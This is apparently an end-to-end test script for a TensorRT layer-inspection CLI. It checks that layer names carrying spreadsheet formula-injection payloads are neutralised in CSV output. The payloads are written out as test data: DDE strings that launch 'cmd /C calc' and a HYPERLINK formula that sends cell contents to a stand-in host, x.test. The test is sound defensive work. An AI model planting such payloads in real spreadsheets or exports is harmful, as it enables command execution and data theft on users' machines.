# injection: layer names that a spreadsheet would run as formulas (OWASP's
# CSV injection payloads), from a JSON graph and from a plain trtexec log,
# come out of `layers --csv` as text: a leading apostrophe inside quotes;
# a field that is one plain number ("-3.5") is left alone.
. tests/e2e/lib.sh
"$PY" - "$TMP" <<'PY'
import json, sys
d = sys.argv[1]
names = ["-1+1+cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
         "\t=1", "+1", "-3.5", "plain"]
json.dump({"Layers": [{"Name": n, "LayerType": "Shuffle"} for n in names], "Bindings": []},
          open(d + "/inj.graph.json", "w"))
with open(d + "/inj.log", "w") as f:
    f.write("&&&& RUNNING TensorRT.trtexec [TensorRT v101601] [b11] # trtexec --onnx=x.onnx --dumpLayerInfo\n")
    f.write("[07/07/2026-02:11:24] [V] [TRT] Engine Layer Information:\n")
    prev = "x"
    for i, n in enumerate(names):
        if "\t" in n or "," in n: continue  # one line per layer: no tab, no comma
        f.write("Layer(Shuffle): %s, Tactic: 0x0000000000000000, %s (Float[1,4]) -> t%d (Float[1,4])\n" % (n, prev, i))
        prev = "t%d" % i
PY
for src in inj.graph.json inj.log; do
  "$EC_BIN" layers --csv "$TMP/$src" > "$TMP/out.csv" 2> "$TMP/err"; rc=$?
  if [ $rc -ne 0 ]; then fail "layers --csv $src: exit $rc: $(head -1 "$TMP/err")"; continue; fi
  check "layers --csv $src: every formula payload is text, -3.5 stays a number" "$PY" - "$TMP/out.csv" "$src" <<'PY'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], encoding="utf-8", newline="")))
names = [r["name"] for r in rows]
assert len(names) >= 5, names
for n in names:
    if n in ("plain", "-3.5"):
        continue
    assert n.startswith("'"), "not neutralised: %r" % n
assert "-3.5" in names, names
if sys.argv[2].endswith(".json"):
    assert "'-1+1+cmd|' /C calc'!A0" in names and "'\t=1" in names and "'+1" in names, names
raw = open(sys.argv[1], encoding="utf-8").read()
for line in raw.splitlines()[1:]:
    for f in next(csv.reader([line])):
        assert not f[:1] in ("=", "+", "@", "\t", "\r") and not (f[:1] == "-" and f != "-3.5" and not f[1:2].isdigit() and f[1:2] not in ("", ".")), "bare formula field %r" % f
PY
done
